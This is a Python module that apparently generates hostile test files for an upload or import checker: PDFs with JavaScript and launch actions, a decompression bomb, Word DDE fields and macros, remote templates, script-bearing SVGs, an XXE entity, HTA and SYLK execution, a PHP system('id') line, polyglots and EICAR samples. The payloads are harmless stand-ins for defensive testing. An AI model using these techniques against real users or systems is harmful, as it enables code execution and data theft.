"""PDFs, Word files, web pages, drawings with scripts and files that are two things at once."""

from __future__ import annotations

from xml.sax.saxutils import escape

from .active import EXE, VBA_KIND, VBA_REL, VBA_STREAMS
from .model import CANARY_FILE, CANARY_URL, Kit
from .ole import compound
from .parts import DECL, DOCREL, PKGREL, TYPES, Parts, csv_text, ods, xlsx
from .pictures import jpeg
from .rawzip import build, plain, repeated

WORDML = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def pdf(
    catalogue: str = "",
    objects: tuple[bytes, ...] = (),
    text: str = "Name Count Note",
    trailer: str = "",
) -> bytes:
    """Give a one-page PDF with anything more in its catalogue and objects from the sixth on."""
    page = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    bodies = [
        f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>"
        ),
        b"<< /Length %d >>\nstream\n" % len(page) + page + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *objects,
    ]
    out = bytearray(b"%PDF-1.7\n")
    spots = []
    for n, body in enumerate(bodies, 1):
        spots.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % spot for spot in spots)
    out += f"trailer\n<< /Size {len(bodies) + 1} /Root 1 0 R {trailer} >>\n".encode()
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % start


def _stream(body: bytes, extra: bytes = b"") -> bytes:
    """Give a PDF stream object."""
    return b"<< /Length %d %s >>\nstream\n" % (len(body), extra) + body + b"\nendstream"


def _pdfs(kit: Kit) -> None:
    """Write PDFs that run, carry or swell."""
    family = "pdf"
    attach = (
        "/Names << /EmbeddedFiles << /Names [(figures.xlsx) << /Type /Filespec "
        "/F (figures.xlsx) /EF << /F 6 0 R >> >>] >> >>"
    )
    bomb = repeated(b"", bytes(1 << 20), 1024, b"").data
    bodies = {
        "plain": pdf(),
        "javascript": pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "launch": pdf("/OpenAction << /S /Launch /F (calc.exe) >>"),
        "address": pdf(f"/OpenAction << /S /URI /URI ({CANARY_URL}/pdf) >>"),
        "submit": pdf(f"/AA << /WC << /S /SubmitForm /F ({CANARY_URL}) >> >>"),
        "attachment": pdf(attach, (_stream(xlsx().zip()),)),
        "attachment-exe": pdf(attach.replace("figures.xlsx", "x.exe"), (_stream(EXE),)),
        "bomb": pdf("", (_stream(b"\x78\x9c" + bomb, b"/Filter /FlateDecode"),)),
        "encrypted": pdf(trailer="/Encrypt << /Filter /Standard /V 4 /R 4 >>"),
        "form-xfa": pdf("/AcroForm << /XFA 6 0 R >>", (_stream(b"<xdp:xdp/>"),)),
        "cut": pdf()[:300],
    }
    for label, body in bodies.items():
        kit.add(family, f"{label}.pdf", body)
    for kind in ("xlsx", "csv", "ods", "xls"):
        kit.add(family, f"plain-as.{kind}", bodies["plain"])


def docx(
    body: str = "<w:p><w:r><w:t>Name Count Note</w:t></w:r></w:p>", main: str = WORD_MAIN
) -> Parts:
    """Give a Word file."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": f'{DECL}<Types xmlns="{TYPES}"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>',
        "_rels/.rels": f'{DECL}<Relationships xmlns="{PKGREL}"></Relationships>',
    }
    book = Parts(parts).put(
        "word/document.xml",
        f'{DECL}<w:document xmlns:w="{WORDML}" '
        f'xmlns:r="{DOCREL}"><w:body>{body}</w:body></w:document>',
        main,
    )
    return book.link("", "rId1", "officeDocument", "word/document.xml")


def _word(kit: Kit) -> None:
    """Write Word files and their kin."""
    family = "word"
    change = (
        '<w:p><w:ins w:id="1" w:author="a"><w:r><w:t>new</w:t></w:r></w:ins><w:del w:id="2" '
        'w:author="a"><w:r><w:delText>secret</w:delText></w:r></w:del></w:p>'
    )
    field = (
        '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k '
        'calc&quot;"/></w:p>'
    )
    macro = docx(main=WORD_MAIN.replace("document.main", "document.macroEnabled.main"))
    macro.put("word/vbaProject.bin", compound(VBA_STREAMS), VBA_KIND)
    macro.link("word/document.xml", "rIdV", VBA_REL, "vbaProject.bin")
    table = (
        "<w:tbl>"
        + "".join(
            "<w:tr>"
            + "".join(
                f"<w:tc><w:p><w:r><w:t>{escape(cell)}</w:t></w:r></w:p></w:tc>"
                for cell in line.split(",")
            )
            + "</w:tr>"
            for line in csv_text().split("\r\n")
        )
        + "</w:tbl>"
    )
    far = docx().link(
        "word/document.xml", "rIdT", "attachedTemplate", f"{CANARY_URL}/t.dotm", outside=True
    )
    bodies = {
        "tracked-changes.docx": docx(change).zip(),
        "macros.docm": macro.zip(),
        "macros-as.docx": macro.zip(),
        "macros-as.xlsx": macro.zip(),
        "table.docx": docx(table).zip(),
        "table-as.xlsx": docx(table).zip(),
        "table-as.ods": docx(table).zip(),
        "dde-field.docx": docx(field).zip(),
        "far-template.docx": far.zip(),
        "old.doc": compound({"WordDocument": b"\xec\xa5\xc1\0" + bytes(500), "1Table": bytes(900)}),
        "old-macros.doc": compound(
            {
                "WordDocument": b"\xec\xa5" + bytes(9),
                **{f"Macros/{k}": v for k, v in VBA_STREAMS.items()},
            }
        ),
        "rich.rtf": rb"{\rtf1\ansi{\object\objocx\objupdate{\*\objdata 0105}}}",
        "rich-as.csv": b"{\\rtf1\\ansi Name,Count,Note\\par a,1,b\\par}",
        "slides.pptx": docx(
            main="application/vnd.openxmlformats-officedocument.presentationml."
            "presentation.main+xml"
        ).zip(),
        "message.eml": b"From: a@b.example\r\nSubject: figures\r\n\r\nName,Count,Note\r\n",
        "pages.epub": build(plain({"mimetype": b"application/epub+zip", "a.xhtml": b"<p/>"})),
        "program.jar": build(plain({"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": EXE})),
    }
    for name, body in bodies.items():
        kit.add(family, name, body)


def _web(kit: Kit) -> None:
    """Write web pages and drawings that hold scripts."""
    family = "web-pages"
    space = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    table = (
        "<table>"
        + "".join(
            f"<tr><td>{'</td><td>'.join(line.split(','))}</td></tr>"
            for line in csv_text().strip().split("\r\n")
        )
        + "</table>"
    )
    page = f"<!DOCTYPE html><html><body>{table}<script>alert(1)</script></body></html>"
    flat = ods().text("content.xml").replace("document-content", "document")
    sheet = (
        '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:'
        'schemas-microsoft-com:office:spreadsheet"><Worksheet/></Workbook>'
    )
    bodies = {
        "script.svg": f"<svg {space}><script>alert(1)</script></svg>",
        "onload.svg": f'<svg {space} onload="alert(1)"/>',
        "far.svg": f'<svg {space}><image xlink:href="{CANARY_URL}/x.png"/></svg>',
        "entity.svg": f'<!DOCTYPE svg [<!ENTITY e SYSTEM "{CANARY_FILE}">]><svg {space}>&e;</svg>',
        "foreign.svg": f'<svg {space}><foreignObject><iframe src="javascript:alert(1)"/>'
        "</foreignObject></svg>",
        "script-as.xlsx": f"<svg {space}><script>alert(1)</script></svg>",
        "page.html": page,
        "page.htm": page,
        "page-as.xls": page,
        "page-as.xlsx": page,
        "page-as.csv": page,
        "page.mht": f"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n{page}",
        "page-as-mht.xls": f"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n{page}",
        "program.hta": page.replace("alert(1)", "new ActiveXObject('WScript.Shell')"),
        "table-2003.xml": sheet,
        "table-2003-as.xls": sheet,
        "flat.fods": flat,
        "flat-as.ods": flat,
        "macro.slk": 'ID;P\nO;E\nC;X1;Y1;EEXEC("calc")\nE\n',
        "macro-as.xls": 'ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;EEXEC("calc")\nE\n',
        "query.iqy": f"WEB\n1\n{CANARY_URL}/q",
        "link.url": f"[InternetShortcut]\nURL={CANARY_URL}",
        "table.dif": 'TABLE\n0,1\n"EXCEL"\n',
        "script.php": "<?php system('id'); ?>",
        "figures.json": "[]",
        "figures.xml": "<a/>",
        "figures.txt": csv_text(),
        "figures.tsv": csv_text(sep="\t"),
        "figures.sh": "#!/bin/sh\ntouch /tmp/hostile-ran\n",
        "figures.bat": "calc.exe\r\n",
        "figures.ps1": "Start-Process calc\n",
    }
    for name, body in bodies.items():
        kit.add(family, name, body)


def _polyglots(kit: Kit) -> None:
    """Write files that are two kinds at once."""
    family = "polyglots"
    book, sheet, text = xlsx(), ods(), csv_text().encode()
    entries = plain(book.raw())
    gif = b"GIF89a\x01\0\x01\0\0\0\0!\xfe\xff\xff\xff\xff\0;"
    kit.add(family, "pdf-before-zip.pdf", build(entries, prefix=pdf()))
    for label, prefix in (
        ("pdf", pdf()),
        ("gif", gif),
        ("exe", EXE),
        ("jpeg", jpeg(8, 8)),
        ("html", b"<html><script>alert(1)</script>"),
        ("csv", text),
        ("shell", b"#!/bin/sh\ntouch /tmp/hostile-ran\nexit\n"),
        ("ole", compound({"WordDocument": EXE})),
    ):
        kit.add(family, f"{label}-before-zip.xlsx", build(entries, prefix=prefix), "defused")
    for label in ("pdf", "exe"):
        front = pdf() if label == "pdf" else EXE
        kit.add(
            family,
            f"{label}-before-zip-unshifted.xlsx",
            build(entries, prefix=front, shifted=False),
            "defused",
        )
        kit.add(
            family, f"{label}-before-zip.ods", build(plain(sheet.raw()), prefix=front), "defused"
        )
        kit.add(family, f"{label}-before-csv.csv", front + b"\r\n" + text)
    kit.add(family, "gif-before-zip.gif", build(entries, prefix=gif))
    kit.add(family, "exe-before-zip.exe", build(entries, prefix=EXE))
    kit.add(family, "csv-before-zip.csv", text + book.zip(), "defused")
    kit.add(family, "html-in-csv.csv", text + b"<html><body onload=alert(1)>,1,x\r\n", "defused")
    kit.add(
        family,
        "html-first-csv.csv",
        b"<!--\r\n" + text + b"--><script>alert(1)</script>",
        "defused",
    )
    kit.add(family, "php-in-csv.csv", text + b"<?php system('id'); ?>,1,x\r\n", "defused")
    kit.add(family, "csv-in-zip-comment.xlsx", build(entries, comment=text), "defused")
    kit.add(family, "two-zips.xlsx", book.zip() + docx().zip())
    kit.add(family, "two-books.xlsx", docx().zip() + book.zip(), "defused")


EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-" + "TEST-FILE!$H+H*"


def _eicar(kit: Kit) -> None:
    """Write the agreed test text for virus scanners in several wrappings."""
    family = "eicar"
    raw = EICAR.encode()
    inner = build(plain({"eicar.com": raw}))
    kit.add(family, "eicar.com", raw)
    kit.add(family, "eicar.txt", raw)
    kit.add(family, "eicar.xlsx", raw)
    kit.add(family, "eicar.ods", raw)
    kit.add(family, "eicar.csv", raw, "defused")
    kit.add(family, "cell.csv", csv_text() + f'"{EICAR}",1,x\r\n', "defused")
    kit.add(family, "zipped.zip", inner)
    kit.add(family, "zipped-as.xlsx", inner)
    kit.add(family, "zipped-twice.zip", build(plain({"a.zip": inner})))
    kit.add(family, "beside.xlsx", xlsx().put("xl/media/eicar.com", raw).zip(), "defused")
    kit.add(family, "beside.ods", ods().put("Pictures/eicar.com", raw).zip(), "defused")
    kit.add(family, "stored-comment.xlsx", build(plain(xlsx().raw()), comment=raw), "defused")


def make(kit: Kit) -> None:
    """Write every file of this module."""
    for part in (_pdfs, _word, _web, _polyglots, _eicar):
        part(kit)
